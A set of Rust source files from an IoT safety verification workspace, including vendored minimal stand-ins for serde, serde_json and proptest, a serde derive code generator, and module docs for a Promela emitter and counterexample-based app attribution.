                } else {
                    out.push_str(&format!(
                        "            {name}::{0} => ::serde::Value::Object(vec![(\"{tag}\".to_string(), ::serde::Value::String(\"{0}\".to_string()))]),\n",
                        v.name
                    ));
                }
            }
            out.push_str("        }\n");
        }
    }
    out.push_str("    }\n}\n");
    out
}

fn gen_deserialize(input: &Input) -> String {
    let name = &input.name;
    let mut out = String::new();
    out.push_str(&format!("impl ::serde::Deserialize for {name} {{\n"));
    out.push_str(
        "    fn from_value(__value: &::serde::Value) -> ::std::result::Result<Self, ::serde::Error> {\n",
    );
    out.push_str(&format!(
        "        let __obj = __value.as_object().ok_or_else(|| ::serde::Error::custom(\"expected a JSON object for `{name}`\"))?;\n",
    ));
    match &input.shape {
        Shape::Struct(fields) => {
            out.push_str(&format!("        ::std::result::Result::Ok({name} {{\n"));
            for f in fields {
                let fallback = match &f.default {
                    FieldDefault::Required => format!(
                        "return ::std::result::Result::Err(::serde::Error::custom(\"missing field `{}` in `{name}`\"))",
                        f.name
                    ),
                    FieldDefault::DefaultTrait => "::std::default::Default::default()".to_string(),
                    FieldDefault::Path(path) => format!("{path}()"),
                };
                out.push_str(&format!(
                    "            {0}: match __obj.iter().find(|(__k, _)| __k.as_str() == \"{0}\") {{\n                ::std::option::Option::Some((_, __v)) => ::serde::Deserialize::from_value(__v)?,\n                ::std::option::Option::None => {1},\n            }},\n",
                    f.name, fallback
                ));
            }
            out.push_str("        })\n");
        }
        Shape::Enum(variants) => {
            let tag = input.tag.as_deref().unwrap_or("type");
            let content = input.content.as_deref().unwrap_or("value");
            out.push_str(&format!(
                "        let __tag = __obj.iter().find(|(__k, _)| __k.as_str() == \"{tag}\").and_then(|(_, __v)| __v.as_str()).ok_or_else(|| ::serde::Error::custom(\"missing `{tag}` tag for `{name}`\"))?;\n",
            ));
            out.push_str("        match __tag {\n");
            for v in variants {
                if v.has_payload {
                    out.push_str(&format!(
                        "            \"{0}\" => {{\n                let __payload = __obj.iter().find(|(__k, _)| __k.as_str() == \"{content}\").map(|(_, __v)| __v).ok_or_else(|| ::serde::Error::custom(\"missing `{content}` for `{name}::{0}`\"))?;\n                ::std::result::Result::Ok({name}::{0}(::serde::Deserialize::from_value(__payload)?))\n            }}\n",
                        v.name
                    ));
                } else {
                    out.push_str(&format!(
                        "            \"{0}\" => ::std::result::Result::Ok({name}::{0}),\n",
                        v.name
                    ));
                }
            }
            out.push_str(&format!(
                "            __other => ::std::result::Result::Err(::serde::Error::custom(format!(\"unknown `{name}` variant `{{}}`\", __other))),\n",
            ));
            out.push_str("        }\n");
        }
    }
    out.push_str("    }\n}\n");
    out
}
