//! Collection strategies (`proptest::collection::vec`).

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng as _;

/// A strategy yielding vectors whose length is drawn from `len` and whose
/// elements come from `element`.
#[derive(Debug, Clone)]
pub struct VecStrategy<S> {
    element: S,
    len: std::ops::Range<usize>,
}

/// Generates `Vec`s with lengths in `len` (half-open, like proptest).
pub fn vec<S: Strategy>(element: S, len: std::ops::Range<usize>) -> VecStrategy<S> {
    assert!(len.start < len.end, "collection::vec needs a non-empty length range");
    VecStrategy { element, len }
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;

    fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
        let len = rng.gen_range(self.len.clone());
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}
