//! The deterministic per-case random source.

use rand::rngs::StdRng;
use rand::{RngCore, SeedableRng};

/// The RNG handed to strategies: one independent, reproducible stream per
/// (test name, case index) pair, so failures always replay.
#[derive(Debug, Clone)]
pub struct TestRng {
    inner: StdRng,
}

impl TestRng {
    /// The stream for case `case` of the test named `name`.
    pub fn for_case(name: &str, case: u32) -> Self {
        // FNV-1a over the test name, mixed with the case index.
        let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
        for byte in name.bytes() {
            hash ^= u64::from(byte);
            hash = hash.wrapping_mul(0x0000_0100_0000_01B3);
        }
        TestRng { inner: StdRng::seed_from_u64(hash ^ (u64::from(case) << 1 | 1)) }
    }
}

impl RngCore for TestRng {
    fn next_u64(&mut self) -> u64 {
        self.inner.next_u64()
    }
}
