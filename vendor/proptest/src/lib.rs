//! Vendored minimal stand-in for the `proptest` crate.
//!
//! Implements the subset `tests/property_based.rs` uses: the [`proptest!`]
//! macro (with an optional `#![proptest_config(...)]` header), `name in
//! strategy` bindings, [`prop_assert!`]/[`prop_assert_eq!`], [`prop_oneof!`],
//! [`Just`], integer-range strategies, `collection::vec`, and a loose
//! `.{m,n}`-style string pattern strategy.
//!
//! Differences from real proptest, by design: cases are generated from a
//! fixed per-case seed (fully deterministic, no `PROPTEST_` env handling) and
//! failing cases are reported but **not shrunk**.

use std::fmt;

pub mod collection;
pub mod strategy;
pub mod test_runner;

pub use strategy::{Just, Strategy, StringPattern, Union};
pub use test_runner::TestRng;

/// Commonly used items, mirroring `proptest::prelude::*`.
pub mod prelude {
    pub use crate::collection;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::TestRng;
    pub use crate::{
        prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest, ProptestConfig,
        TestCaseError,
    };
}

/// Per-`proptest!`-block configuration.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// How many random cases each test body runs.
    pub cases: u32,
}

impl ProptestConfig {
    /// A configuration running `cases` cases per test.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        // Real proptest defaults to 256; 64 keeps the suite comfortably within
        // tier-1 time budgets while still exercising varied inputs.
        ProptestConfig { cases: 64 }
    }
}

/// A failed property: carries the assertion message.
#[derive(Debug, Clone)]
pub struct TestCaseError {
    message: String,
}

impl TestCaseError {
    /// Creates a failure with `message`.
    pub fn fail(message: impl Into<String>) -> Self {
        TestCaseError { message: message.into() }
    }
}

impl fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for TestCaseError {}

/// Defines property tests: each `#[test] fn name(arg in strategy, ...) { .. }`
/// item expands to a unit test running the body over `config.cases`
/// deterministic random cases.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)+) => {
        $crate::__proptest_impl! { ($cfg) $($rest)+ }
    };
    ($($rest:tt)+) => {
        $crate::__proptest_impl! { (<$crate::ProptestConfig as ::std::default::Default>::default()) $($rest)+ }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    ( ($cfg:expr) $( $(#[$meta:meta])* fn $name:ident( $($arg:ident in $strat:expr),+ $(,)? ) $body:block )+ ) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __config: $crate::ProptestConfig = $cfg;
                let __strategies = ( $( $strat, )+ );
                for __case in 0..__config.cases {
                    let mut __rng = $crate::TestRng::for_case(stringify!($name), __case);
                    let ( $( $arg, )+ ) = {
                        let ( $( ref $arg, )+ ) = __strategies;
                        ( $( $crate::Strategy::generate($arg, &mut __rng), )+ )
                    };
                    let __result: ::std::result::Result<(), $crate::TestCaseError> =
                        (|| -> ::std::result::Result<(), $crate::TestCaseError> {
                            $body
                            ::std::result::Result::Ok(())
                        })();
                    if let ::std::result::Result::Err(__err) = __result {
                        panic!("proptest `{}` failed at case {}: {}", stringify!($name), __case, __err);
                    }
                }
            }
        )+
    };
}

/// `prop_assert!(cond)` / `prop_assert!(cond, "format", args...)`: on failure
/// the enclosing property returns a [`TestCaseError`].
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::TestCaseError::fail(format!(
                "assertion failed: {}",
                stringify!($cond)
            )));
        }
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::TestCaseError::fail(format!($($fmt)+)));
        }
    };
}

/// `prop_assert_eq!(left, right)`, analogous to [`assert_eq!`].
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let __l = $left;
        let __r = $right;
        if __l != __r {
            return ::std::result::Result::Err($crate::TestCaseError::fail(format!(
                "assertion failed: `{} == {}`\n  left: {:?}\n right: {:?}",
                stringify!($left),
                stringify!($right),
                __l,
                __r
            )));
        }
    }};
}

/// `prop_assert_ne!(left, right)`, analogous to [`assert_ne!`].
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let __l = $left;
        let __r = $right;
        if __l == __r {
            return ::std::result::Result::Err($crate::TestCaseError::fail(format!(
                "assertion failed: `{} != {}`\n  both: {:?}",
                stringify!($left),
                stringify!($right),
                __l
            )));
        }
    }};
}

/// Picks uniformly between the given strategies (all of one concrete type).
#[macro_export]
macro_rules! prop_oneof {
    ($($strategy:expr),+ $(,)?) => {
        $crate::Union::new(vec![$($strategy),+])
    };
}
