//! Value-generation strategies.

use crate::test_runner::TestRng;
use rand::Rng as _;

/// A recipe for generating random values of one type.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Generates one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;
}

/// Always yields a clone of the wrapped value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;

    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// Uniform choice between same-typed strategies (built by `prop_oneof!`).
#[derive(Debug, Clone)]
pub struct Union<S> {
    options: Vec<S>,
}

impl<S: Strategy> Union<S> {
    /// Creates a union over `options` (must be non-empty).
    pub fn new(options: Vec<S>) -> Self {
        assert!(!options.is_empty(), "prop_oneof! needs at least one strategy");
        Union { options }
    }
}

impl<S: Strategy> Strategy for Union<S> {
    type Value = S::Value;

    fn generate(&self, rng: &mut TestRng) -> S::Value {
        let idx = rng.gen_range(0..self.options.len());
        self.options[idx].generate(rng)
    }
}

macro_rules! range_strategy {
    ($($t:ty),+) => {
        $(
            impl Strategy for std::ops::Range<$t> {
                type Value = $t;

                fn generate(&self, rng: &mut TestRng) -> $t {
                    rng.gen_range(self.clone())
                }
            }
        )+
    };
}

range_strategy!(i8, i16, i32, i64, u8, u16, u32, u64, usize, isize, f64);

/// A loose interpretation of proptest's regex string strategies.
///
/// Only the shape actually used by the workspace is honoured: `.{m,n}` yields
/// strings of `m..=n` characters drawn from a fuzzing-friendly pool (ASCII
/// printables, structural punctuation, whitespace, and a few multibyte code
/// points).  Any other pattern falls back to 0–64 characters from that pool.
#[derive(Debug, Clone)]
pub struct StringPattern {
    min_len: usize,
    max_len: usize,
}

impl StringPattern {
    /// Parses `pattern` into a length range (see type docs).
    pub fn parse(pattern: &str) -> Self {
        if let Some(rest) = pattern.strip_prefix(".{") {
            if let Some(body) = rest.strip_suffix('}') {
                if let Some((lo, hi)) = body.split_once(',') {
                    if let (Ok(lo), Ok(hi)) = (lo.trim().parse(), hi.trim().parse()) {
                        return StringPattern { min_len: lo, max_len: hi };
                    }
                }
            }
        }
        StringPattern { min_len: 0, max_len: 64 }
    }
}

/// The character pool for [`StringPattern`] — biased toward tokens that
/// stress lexers: quotes, braces, escapes, newlines, digits and identifiers.
const CHAR_POOL: &[char] = &[
    'a', 'b', 'z', 'A', 'Z', '_', '0', '1', '9', ' ', '\t', '\n', '"', '\'', '\\', '{', '}', '(',
    ')', '[', ']', '.', ',', ';', ':', '=', '+', '-', '*', '/', '<', '>', '!', '&', '|', '$', '#',
    '@', '~', '^', '%', '?', '\u{0}', '\u{7f}', 'é', '日', '🦀',
];

impl Strategy for StringPattern {
    type Value = String;

    fn generate(&self, rng: &mut TestRng) -> String {
        let len = rng.gen_range(self.min_len..self.max_len + 1);
        (0..len).map(|_| CHAR_POOL[rng.gen_range(0..CHAR_POOL.len())]).collect()
    }
}

impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut TestRng) -> String {
        StringPattern::parse(self).generate(rng)
    }
}
