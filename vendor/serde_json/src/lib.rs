//! Vendored minimal stand-in for the `serde_json` crate.
//!
//! Covers the workspace's surface: [`to_string`], [`to_string_pretty`] and
//! [`from_str`] over types implementing the stub `serde` traits, plus a
//! conforming JSON parser/printer for the shared [`Value`] data model.

pub use serde::{Error, Value};

/// Serializes a value to compact JSON.
pub fn to_string<T: serde::Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    let mut out = String::new();
    write_value(&value.to_value(), &mut out, None, 0);
    Ok(out)
}

/// Serializes a value to pretty-printed JSON (two-space indent).
pub fn to_string_pretty<T: serde::Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    let mut out = String::new();
    write_value(&value.to_value(), &mut out, Some(2), 0);
    Ok(out)
}

/// Parses a value from a JSON string.
pub fn from_str<T: serde::Deserialize>(input: &str) -> Result<T, Error> {
    let value = parse_value(input)?;
    T::from_value(&value)
}

// ---------------------------------------------------------------------------
// Printing
// ---------------------------------------------------------------------------

fn write_value(value: &Value, out: &mut String, indent: Option<usize>, depth: usize) {
    match value {
        Value::Null => out.push_str("null"),
        Value::Bool(true) => out.push_str("true"),
        Value::Bool(false) => out.push_str("false"),
        Value::Number(n) => write_number(*n, out),
        Value::String(s) => write_string(s, out),
        Value::Array(items) => {
            if items.is_empty() {
                out.push_str("[]");
                return;
            }
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                write_value(item, out, indent, depth + 1);
            }
            newline_indent(out, indent, depth);
            out.push(']');
        }
        Value::Object(entries) => {
            if entries.is_empty() {
                out.push_str("{}");
                return;
            }
            out.push('{');
            for (i, (key, item)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                write_string(key, out);
                out.push(':');
                if indent.is_some() {
                    out.push(' ');
                }
                write_value(item, out, indent, depth + 1);
            }
            newline_indent(out, indent, depth);
            out.push('}');
        }
    }
}

fn newline_indent(out: &mut String, indent: Option<usize>, depth: usize) {
    if let Some(width) = indent {
        out.push('\n');
        for _ in 0..width * depth {
            out.push(' ');
        }
    }
}

fn write_number(n: f64, out: &mut String) {
    if n.is_finite() {
        // Rust's shortest-roundtrip float formatting is valid JSON except that
        // integral values print without a fraction, which JSON also allows.
        out.push_str(&format!("{}", n));
    } else {
        // JSON has no NaN/Infinity; degrade to null like serde_json's
        // arbitrary-precision mode refuses to.
        out.push_str("null");
    }
}

fn write_string(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

// ---------------------------------------------------------------------------
// Parsing
// ---------------------------------------------------------------------------

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

fn parse_value(input: &str) -> Result<Value, Error> {
    let mut parser = Parser { bytes: input.as_bytes(), pos: 0 };
    parser.skip_ws();
    let value = parser.value()?;
    parser.skip_ws();
    if parser.pos != parser.bytes.len() {
        return Err(Error::custom(format!("trailing characters at offset {}", parser.pos)));
    }
    Ok(value)
}

impl<'a> Parser<'a> {
    fn skip_ws(&mut self) {
        while let Some(b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), Error> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(Error::custom(format!("expected `{}` at offset {}", b as char, self.pos)))
        }
    }

    fn literal(&mut self, word: &str, value: Value) -> Result<Value, Error> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(Error::custom(format!("invalid literal at offset {}", self.pos)))
        }
    }

    fn value(&mut self) -> Result<Value, Error> {
        match self.peek() {
            Some(b'n') => self.literal("null", Value::Null),
            Some(b't') => self.literal("true", Value::Bool(true)),
            Some(b'f') => self.literal("false", Value::Bool(false)),
            Some(b'"') => Ok(Value::String(self.string()?)),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b) if b == b'-' || b.is_ascii_digit() => self.number(),
            other => Err(Error::custom(format!(
                "unexpected {:?} at offset {}",
                other.map(|b| b as char),
                self.pos
            ))),
        }
    }

    fn array(&mut self) -> Result<Value, Error> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                _ => {
                    return Err(Error::custom(format!(
                        "expected `,` or `]` at offset {}",
                        self.pos
                    )))
                }
            }
        }
    }

    fn object(&mut self) -> Result<Value, Error> {
        self.expect(b'{')?;
        let mut entries = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Object(entries));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            entries.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Object(entries));
                }
                _ => {
                    return Err(Error::custom(format!(
                        "expected `,` or `}}` at offset {}",
                        self.pos
                    )))
                }
            }
        }
    }

    fn string(&mut self) -> Result<String, Error> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            while let Some(b) = self.peek() {
                if b == b'"' || b == b'\\' {
                    break;
                }
                self.pos += 1;
            }
            out.push_str(
                std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| Error::custom("invalid UTF-8 in string"))?,
            );
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'b') => out.push('\u{0008}'),
                        Some(b'f') => out.push('\u{000c}'),
                        Some(b'u') => {
                            let hex = self
                                .bytes
                                .get(self.pos + 1..self.pos + 5)
                                .and_then(|h| std::str::from_utf8(h).ok())
                                .ok_or_else(|| Error::custom("truncated \\u escape"))?;
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|_| Error::custom("invalid \\u escape"))?;
                            // Surrogate pairs are not needed by this corpus.
                            out.push(
                                char::from_u32(code)
                                    .ok_or_else(|| Error::custom("invalid \\u code point"))?,
                            );
                            self.pos += 4;
                        }
                        other => return Err(Error::custom(format!("invalid escape {:?}", other))),
                    }
                    self.pos += 1;
                }
                _ => return Err(Error::custom("unterminated string")),
            }
        }
    }

    fn number(&mut self) -> Result<Value, Error> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b) if b.is_ascii_digit()) {
            self.pos += 1;
        }
        if self.peek() == Some(b'.') {
            self.pos += 1;
            while matches!(self.peek(), Some(b) if b.is_ascii_digit()) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e') | Some(b'E')) {
            self.pos += 1;
            if matches!(self.peek(), Some(b'+') | Some(b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b) if b.is_ascii_digit()) {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| Error::custom("invalid number"))?;
        text.parse::<f64>()
            .map(Value::Number)
            .map_err(|_| Error::custom(format!("invalid number `{}`", text)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_nested_structures() {
        let text = r#"{"a": [1, 2.5, -3e2], "b": {"c": "x\ny", "d": null}, "e": true}"#;
        let value = parse_value(text).unwrap();
        let compact = {
            let mut out = String::new();
            write_value(&value, &mut out, None, 0);
            out
        };
        assert_eq!(parse_value(&compact).unwrap(), value);
        let pretty = {
            let mut out = String::new();
            write_value(&value, &mut out, Some(2), 0);
            out
        };
        assert_eq!(parse_value(&pretty).unwrap(), value);
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse_value("{").is_err());
        assert!(parse_value("[1,]").is_err());
        assert!(parse_value("nul").is_err());
        assert!(parse_value("1 2").is_err());
    }
}
