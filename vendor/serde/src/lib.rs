//! Vendored minimal stand-in for the `serde` crate.
//!
//! The build environment has no access to crates.io, so this workspace ships
//! a tiny, self-contained replacement that covers exactly the surface IotSan-rs
//! uses: `#[derive(Serialize, Deserialize)]` on plain named-field structs and
//! adjacently-tagged enums, serialized through a JSON [`Value`] data model
//! (rendered and parsed by the sibling `serde_json` stub).
//!
//! It is **not** API-compatible with real serde beyond that surface; swap the
//! `vendor/` path dependencies for the real crates when registry access is
//! available.

mod value;

pub use value::{Error, Value};

#[cfg(feature = "derive")]
pub use serde_derive::{Deserialize, Serialize};

/// A type that can be converted into the JSON [`Value`] data model.
pub trait Serialize {
    /// Converts `self` into a [`Value`].
    fn to_value(&self) -> Value;
}

/// A type that can be reconstructed from the JSON [`Value`] data model.
pub trait Deserialize: Sized {
    /// Rebuilds `Self` from a [`Value`].
    fn from_value(value: &Value) -> Result<Self, Error>;
}

// `Value` round-trips through itself, so callers can parse arbitrary JSON
// (`serde_json::from_str::<Value>`) and inspect it dynamically — the real
// serde_json offers the same.
impl Serialize for Value {
    fn to_value(&self) -> Value {
        self.clone()
    }
}

impl Deserialize for Value {
    fn from_value(value: &Value) -> Result<Self, Error> {
        Ok(value.clone())
    }
}

impl Serialize for bool {
    fn to_value(&self) -> Value {
        Value::Bool(*self)
    }
}

impl Deserialize for bool {
    fn from_value(value: &Value) -> Result<Self, Error> {
        value.as_bool().ok_or_else(|| Error::custom("expected a boolean"))
    }
}

impl Serialize for String {
    fn to_value(&self) -> Value {
        Value::String(self.clone())
    }
}

impl Deserialize for String {
    fn from_value(value: &Value) -> Result<Self, Error> {
        value.as_str().map(str::to_string).ok_or_else(|| Error::custom("expected a string"))
    }
}

impl Serialize for str {
    fn to_value(&self) -> Value {
        Value::String(self.to_string())
    }
}

impl Serialize for f64 {
    fn to_value(&self) -> Value {
        Value::Number(*self)
    }
}

impl Deserialize for f64 {
    fn from_value(value: &Value) -> Result<Self, Error> {
        value.as_f64().ok_or_else(|| Error::custom("expected a number"))
    }
}

impl Serialize for f32 {
    fn to_value(&self) -> Value {
        Value::Number(f64::from(*self))
    }
}

impl Deserialize for f32 {
    fn from_value(value: &Value) -> Result<Self, Error> {
        Ok(f64::from_value(value)? as f32)
    }
}

macro_rules! int_impls {
    ($($t:ty),+) => {
        $(
            impl Serialize for $t {
                fn to_value(&self) -> Value {
                    Value::Number(*self as f64)
                }
            }

            impl Deserialize for $t {
                fn from_value(value: &Value) -> Result<Self, Error> {
                    let n = value.as_f64().ok_or_else(|| Error::custom("expected a number"))?;
                    if n.fract() != 0.0 {
                        return Err(Error::custom("expected an integer"));
                    }
                    Ok(n as $t)
                }
            }
        )+
    };
}

int_impls!(i8, i16, i32, i64, u8, u16, u32, u64, usize, isize);

impl<T: Serialize + ?Sized> Serialize for Box<T> {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn from_value(value: &Value) -> Result<Self, Error> {
        Ok(Box::new(T::from_value(value)?))
    }
}

impl<T: Serialize> Serialize for Option<T> {
    fn to_value(&self) -> Value {
        match self {
            Some(v) => v.to_value(),
            None => Value::Null,
        }
    }
}

impl<T: Deserialize> Deserialize for Option<T> {
    fn from_value(value: &Value) -> Result<Self, Error> {
        match value {
            Value::Null => Ok(None),
            other => Ok(Some(T::from_value(other)?)),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_value(value: &Value) -> Result<Self, Error> {
        value
            .as_array()
            .ok_or_else(|| Error::custom("expected an array"))?
            .iter()
            .map(T::from_value)
            .collect()
    }
}

impl<T: Serialize> Serialize for &T {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_value(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_value).collect())
    }
}

impl<V: Serialize> Serialize for std::collections::BTreeMap<String, V> {
    fn to_value(&self) -> Value {
        Value::Object(self.iter().map(|(k, v)| (k.clone(), v.to_value())).collect())
    }
}

impl<V: Deserialize> Deserialize for std::collections::BTreeMap<String, V> {
    fn from_value(value: &Value) -> Result<Self, Error> {
        value
            .as_object()
            .ok_or_else(|| Error::custom("expected an object"))?
            .iter()
            .map(|(k, v)| Ok((k.clone(), V::from_value(v)?)))
            .collect()
    }
}

impl<V: Serialize, S> Serialize for std::collections::HashMap<String, V, S> {
    fn to_value(&self) -> Value {
        let mut entries: Vec<(String, Value)> =
            self.iter().map(|(k, v)| (k.clone(), v.to_value())).collect();
        entries.sort_by(|a, b| a.0.cmp(&b.0));
        Value::Object(entries)
    }
}

impl<V: Deserialize, S: std::hash::BuildHasher + Default> Deserialize
    for std::collections::HashMap<String, V, S>
{
    fn from_value(value: &Value) -> Result<Self, Error> {
        value
            .as_object()
            .ok_or_else(|| Error::custom("expected an object"))?
            .iter()
            .map(|(k, v)| Ok((k.clone(), V::from_value(v)?)))
            .collect()
    }
}
