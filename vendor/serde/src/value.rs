//! The JSON data model shared by the vendored `serde` and `serde_json` stubs.

use std::fmt;

/// A JSON value.
///
/// Objects preserve insertion order (struct field order), which keeps the
/// rendered JSON stable and human-diffable.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// Any JSON number (stored as `f64`).
    Number(f64),
    /// A string.
    String(String),
    /// An array.
    Array(Vec<Value>),
    /// An object as an ordered list of key/value pairs.
    Object(Vec<(String, Value)>),
}

impl Value {
    /// The boolean payload, when this is a [`Value::Bool`].
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// The numeric payload, when this is a [`Value::Number`].
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Number(n) => Some(*n),
            _ => None,
        }
    }

    /// The string payload, when this is a [`Value::String`].
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::String(s) => Some(s),
            _ => None,
        }
    }

    /// The elements, when this is a [`Value::Array`].
    pub fn as_array(&self) -> Option<&[Value]> {
        match self {
            Value::Array(items) => Some(items),
            _ => None,
        }
    }

    /// The entries, when this is a [`Value::Object`].
    pub fn as_object(&self) -> Option<&[(String, Value)]> {
        match self {
            Value::Object(entries) => Some(entries),
            _ => None,
        }
    }

    /// Looks up a key, when this is a [`Value::Object`].
    pub fn get(&self, key: &str) -> Option<&Value> {
        self.as_object()?.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }
}

/// A (de)serialization error: a plain message, as rich error taxonomies are
/// not needed by this workspace.
#[derive(Debug, Clone, PartialEq)]
pub struct Error {
    message: String,
}

impl Error {
    /// Creates an error from a message.
    pub fn custom(message: impl Into<String>) -> Self {
        Error { message: message.into() }
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for Error {}
