//! # iotsan-promela
//!
//! The Promela backend of IotSan-rs (the Rust reproduction of *IotSan:
//! Fortifying the Safety of IoT Systems*, CoNEXT 2018, §6 and §8).
//!
//! The original pipeline reaches Spin through Bandera's SPIN translator; the
//! verification in IotSan-rs is performed by `iotsan-checker` directly on the
//! interpreted IR, and this crate emits the equivalent Promela model text —
//! the sequential single-process design the paper prefers, or the concurrent
//! one-proctype-per-device/app design used for the Table 7b comparison — so
//! that generated models remain inspectable and portable to an external Spin
//! installation.

#![warn(missing_docs)]

pub mod emit;

pub use emit::{emit_concurrent, emit_sequential, DesignStyle, EmitOptions, PromelaEmitter};
