//! Trace-driven attribution: ranking suspect apps from counterexample traces.
//!
//! The two-phase algorithm of §9 ([`crate::attribute_app`],
//! [`crate::attribute_all`]) treats the verifier as an opaque boolean oracle
//! over enumerated *configurations*.  Fleet verification (the
//! `VerificationPlanner` in `iotsan-core`) has richer evidence available:
//! the model checker's counterexample **traces**.  Every log line of a trace
//! step carries structured provenance — [`LogLine::owner`] names the app
//! whose handler produced it, stamped by the model generator when the
//! counterexample is materialized from its structured log events — so the
//! Output Analyzer ranks the apps of a verified group by how strongly each
//! one is implicated in driving the system into the unsafe state, without
//! re-verifying a single configuration and without re-parsing formatted
//! `App.handler:` prefixes out of log text (which earlier revisions did).
//!
//! Scoring is deliberately simple and deterministic: every log line owned by
//! an app counts as one *mention*, weighted by how late in the counterexample
//! it occurs (`(line + 1) / total log lines`, so the handler whose activity
//! is closest to the unsafe state weighs most — a single external event can
//! dispatch a whole chain of handlers, so position is tracked per log line,
//! not per step), and acting in the final step is reported
//! separately as the strongest single signal.  Apps of the group that never
//! act on the counterexample path are still listed with a zero score, which
//! lets callers distinguish "exonerated by the trace" from "absent from the
//! group".

